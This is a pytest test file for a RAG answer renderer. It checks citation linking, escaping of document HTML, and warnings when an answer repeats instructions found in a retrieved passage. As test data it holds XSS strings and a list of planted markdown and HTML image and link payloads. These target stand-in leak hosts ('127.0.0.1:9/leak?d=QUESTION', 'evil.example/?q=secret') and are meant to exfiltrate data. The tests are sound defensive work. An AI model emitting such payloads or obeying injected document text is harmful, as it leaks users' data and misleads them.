"""Rendering of answers and sources (ui/render.py): markers become links only for passages
that were given, document text is escaped, uncited passages are listed; verified citations
(re-attributed, unsupported, injection warning) are shown; code in the reply stays code."""

from __future__ import annotations

from dataclasses import replace

import pytest

from rag.types import Answer, Chunk, Citation, Hit
from ui.render import link_markers, reply_markdown, sources_html, stream_markdown, uncited_html


def _answer(raw: str, cited: list[int], invalid: list[int] | None = None) -> Answer:
    chunks = [
        Chunk(f"c{i}", f"text {i} <script>alert(1)</script>", f"docs/f{i}.md", ("Top", f"S{i}"))
        for i in (1, 2, 3)
    ]
    hits = [Hit(c, 1.0 / i, i) for i, c in enumerate(chunks, start=1)]
    cits = [
        Citation(
            n,
            chunks[n - 1].source,
            chunks[n - 1].heading_path,
            chunks[n - 1].text,
            hits[n - 1].score,
            f"c{n}",
        )
        for n in cited
    ]
    return Answer(
        text=raw,
        citations=cits,
        raw_text=raw,
        invalid_citations=invalid or [],
        passages=hits,
        query="q",
    )


def test_link_markers_only_valid_numbers():
    assert link_markers("at `[1]` now", {1}) == "at [[1]](#src-1) now"
    out = link_markers("a [1] b [2, 7]", {1, 2})
    assert "[[1]](#src-1)" in out and "[[2]](#src-2)" in out and "#src-7" not in out and "7?" in out


def test_reply_flags_invalid_and_uncited():
    assert "named no retrieved passage" in reply_markdown(_answer("x [9]", [], [9]))
    assert "No passage was cited" in reply_markdown(_answer("just text", []))


def test_sources_escape_text_and_show_rewrite():
    html = sources_html(_answer("x [2]", [2]), question="and it?")
    assert 'id="src-2"' in html and "<script>" not in html and "&lt;script&gt;" in html
    assert "Top › S2" in html and "rewritten from" in html


def test_sources_name_the_reranker_that_ran():
    answer = _answer("x [2]", [2])
    assert "reranked by" not in sources_html(answer, "q")
    answer.reranker = "minilm-rerank"
    assert "reranked by minilm-rerank" in sources_html(answer, "q")


def test_uncited_lists_the_rest():
    html = uncited_html(_answer("x [2]", [2]))
    assert "#1 " in html and "#3 " in html and "f2.md" not in html


def test_completed_citation_is_linked_and_labelled():
    from rag.types import Answer, Citation

    cite = Citation(2, "docs/a.md", ("A",), "text", 0.5, "c2")
    answer = Answer(text="It saves prefill.", citations=[cite], raw_text="It saves prefill.")
    answer.citations_completed = True
    assert "citation completion" not in reply_markdown(answer)  # chosen by word support
    answer.citation_logprobs = [-2.0, -0.5]  # chosen by the decoder's likelihoods
    md = reply_markdown(answer)
    assert "[[2]](#src-2)" in md and "citation completion" in md


def test_a_decoder_short_answer_goes_on_top_in_bold_and_its_line_is_not_repeated():
    from rag.types import Answer, AnswerSpan, Citation

    cite = Citation(1, "docs/a.md", ("A",), "Use tar -xf a.tar -C DIR.", 0.5, "c1")
    span = AnswerSpan("tar -xf a.tar -C DIR", 1, "docs/a.md", "c1", 4, 24, 4, 24, 0.0,
                      origin="decoder")  # fmt: skip
    raw = "Extract with -C to choose the folder [1].\nShort answer: tar -xf a.tar -C DIR"
    answer = Answer(text=raw, citations=[cite], raw_text=raw, answer_span=span)
    md = reply_markdown(answer)
    assert md.startswith("**tar -xf a.tar -C DIR**\n\nExtract with -C")
    assert "Short answer" not in md and md.count("tar -xf a.tar -C DIR") == 1


def test_quotes_follow_the_reply_with_linked_markers_and_planted_markup_inert():
    answer = _answer("Use tar [1].", [1, 2])
    answer.quotes = [(2, "Run ![x](http://evil.example/?q=secret) first."), (9, "Not given.")]
    md = reply_markdown(answer)
    head, quotes = md.split("From the documents:")
    assert "Use tar" in head and "Run" not in head
    assert '"Run' in quotes and "[[2]](#src-2)" in quotes  # the quote's marker opens its passage
    assert "#src-9" not in quotes  # no link for a number that names no passage
    assert "<img" not in _html(md) and "evil.example" in _html(md)  # shown, never fetched


def test_each_quote_names_its_page_and_a_planted_heading_stays_inert():
    """A quote line names where it is from (rag.answer.prompt.quote_source: the page and the
    section of its citation); a heading is the document's text, so markup planted there is
    shown, never fetched or run."""
    answer = _answer("Use tar [1].", [1, 2])
    answer.quotes = [(1, "Run tar first."), (2, "Then list it.")]
    answer.citations[1] = replace(
        answer.citations[1], heading_path=("Top", "![x](http://evil.example/?q=secret)")
    )
    md = reply_markdown(answer)
    quotes = md.split("From the documents:")[1]
    assert "Run tar first." in quotes and "Top › S1" in quotes
    assert "<img" not in _html(md) and "evil.example" in _html(md)


# ---- citation verification, code and escaping in the reply -----------------------------------


def _verified(raw: str, cited: list[int], **verdict) -> Answer:
    """A hand-made Answer as rag.answer.verify leaves it: ``unsupported`` numbers carry
    ``supported=False``; ``reattributed``, ``suspected_injection``, ``injection_reasons`` set."""
    answer = _answer(raw, cited)
    bad = set(verdict.get("unsupported_citations", []))
    answer.citations = [replace(c, supported=c.number not in bad) for c in answer.citations]
    answer.verified = True
    for key, value in verdict.items():
        setattr(answer, key, value)
    return answer


def _html(md: str) -> str:
    """The reply as a CommonMark renderer with raw HTML allowed shows it (Gradio's chatbot
    renders markdown with HTML, then sanitises it)."""
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark", {"html": True}).render(md)


def test_reattributed_marker_links_to_the_new_passage():
    answer = _verified("It boils at 100 C [2].", [3], reattributed=[(2, 3)])
    md = reply_markdown(answer)
    assert '<a href="#src-3"' in md and "[2→3]" in md and "#src-2" not in md
    assert 'title="re-attributed: the sentence is supported by passage 3, not 2"' in md
    assert "moved to the passage that supports the sentence: [2→3]" in md
    html = sources_html(answer, "q")
    assert 'id="src-3"' in html and "re-attributed from [2]" in html and 'id="src-2"' not in html
    assert "re-attributed to [3]" in uncited_html(answer)  # passage 2 is no longer cited


def test_partly_reattributed_marker_keeps_its_link_and_adds_the_new_one():
    answer = _verified("A [1]. B [1].", [1, 3], reattributed=[(1, 3)])
    md = reply_markdown(answer)
    assert md.count("[[1]](#src-1)") == 2 and md.count('href="#src-3"') == 2 and "[→3]" in md


def test_unsupported_citation_is_marked():
    answer = _verified("PWNED [2].", [2], unsupported_citations=[2])
    md = reply_markdown(answer)
    assert 'class="rag-cite rag-unsupported"' in md and "[2?]" in md and 'href="#src-2"' in md
    assert 'title="not supported by the cited passage"' in md and "(marked ?)" in md
    assert "[[2]](#src-2)" not in md
    html = sources_html(answer, "q")
    assert 'id="src-2"' in html and ">unsupported</span>" in html
    plain = sources_html(_verified("ok [1].", [1]), "q")
    assert "unsupported" not in plain and "re-attributed" not in plain


def test_injection_warning_is_shown_and_escaped():
    reason = "'PWNED' comes from instruction-like text in passage [2] <img src=x onerror=alert(1)>"
    answer = _verified("PWNED [1].", [1], suspected_injection=True, injection_reasons=[reason])
    html = sources_html(answer, "q")
    assert html.index("This answer may repeat instructions found in a document") < html.index(
        "Cited passages"
    )
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "&#x27;PWNED&#x27; comes from instruction-like text in passage [2]" in html
    assert "may repeat instructions found in a document" in reply_markdown(answer)
    assert "rag-warning" not in sources_html(_verified("ok [1].", [1]), "q")


def test_completed_citation_keeps_its_label_under_verification():
    answer = _verified("It saves prefill.", [3], reattributed=[(2, 3)])
    answer.citations_completed = True
    answer.citation_logprobs = [-3.0, -1.0, -2.0]
    md = reply_markdown(answer)
    assert "[2→3]" in md and 'href="#src-3"' in md and "citation completion" in md


def test_code_renders_as_code_and_markers_in_it_stay_text():
    raw = (
        "Use `f.close()` or `lines[1]` [1]:\n\n```python\nwith open(p) as f:\n"
        "    data = f.read()[1]  # <b>\n```\n\nDone [2]."
    )
    md = reply_markdown(_answer(raw, [1, 2]))
    assert "```python\nwith open(p) as f:\n    data = f.read()[1]  # <b>\n```" in md
    assert "[[1]](#src-1)" in md and "[[2]](#src-2)" in md and "`lines[1]`" in md
    out = _html(md)
    assert '<pre><code class="language-python">with open(p) as f:' in out
    assert "f.read()[1]  # &lt;b&gt;" in out and "<code>f.close()</code>" in out
    assert '<a href="#src-1">[1]</a>' in out and '<a href="#src-2">[2]</a>' in out


def test_streamed_and_truncated_code_stays_code():
    partial = "Call it:\n```python\nprint('<script>') [1]"
    shown = stream_markdown(partial)
    assert shown.startswith(partial)  # verbatim: markers are linked once the answer is complete
    assert "<pre><code" in _html(shown) and "[1]" in _html(shown)
    # A completed marker after an unclosed fence: the fence is closed, the marker is a link.
    answer = _answer(partial, [1])
    answer.citations_completed = True
    md = reply_markdown(answer)
    assert "[1]\n```\n\n[[1]](#src-1)" in md
    out = _html(md)
    assert "<pre><code" in out and '<a href="#src-1">[1]</a>' in out


def test_document_html_in_the_reply_is_escaped_outside_code():
    raw = "The page says <script>alert(1)</script> [1] and `<i>code</i>`."
    md = reply_markdown(_answer(raw, [1]))
    out = _html(md)
    assert "<script>" not in out and "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert "<code>&lt;i&gt;code&lt;/i&gt;</code>" in out and "<i>" not in out
    assert "<script>" not in _html(stream_markdown(raw))


# Planted markup (docs/security.md, the exfiltration channel): what a document can make the model
# copy into an answer, and what a plain markdown renderer would fetch or hide for each.
PLANTED = [
    "![status](http://127.0.0.1:9/leak?d=QUESTION)",
    '![s](http://127.0.0.1:9/leak "title")',
    "![ref][r]\n\n[r]: http://127.0.0.1:9/leak",
    "![1]\n\n[1]: http://127.0.0.1:9/leak",
    "![see [1]](http://127.0.0.1:9/leak)",
    "\\`![x](http://127.0.0.1:9/leak)`",
    '<img src="http://127.0.0.1:9/leak">',
    "[the guide](http://127.0.0.1:9/leak?d=q)",
    "[guide][g]\n\n[g]: http://127.0.0.1:9/leak",
]


@pytest.mark.parametrize("planted", PLANTED)
def test_planted_images_and_links_render_inert(planted):
    from evals.injection import rendered_fetches

    raw = f"Snapshots are kept 14 days [1]. {planted}"
    fetched, hidden = rendered_fetches(raw)
    assert fetched or hidden  # a plain renderer would leak or hide it
    for md in (reply_markdown(_answer(raw, [1])), stream_markdown(raw)):
        assert rendered_fetches(md) == ([], [])
        assert "127.0.0.1:9/leak" in _html(md)  # the target stays visible, as text
    assert '<a href="#src-1">[1]</a>' in _html(reply_markdown(_answer(raw, [1])))


def test_planted_markup_in_passages_stays_text():
    answer = _answer("x [1]", [1])
    planted = '![s](http://127.0.0.1:9/leak) <img src="http://127.0.0.1:9/leak">'
    answer.citations = [replace(answer.citations[0], text=planted)]
    answer.passages = [
        replace(h, chunk=replace(h.chunk, text=planted, heading_path=(planted,)))
        for h in answer.passages
    ]
    for out in (sources_html(answer, "q"), uncited_html(answer)):
        assert "<img" not in out and "127.0.0.1:9/leak" in out
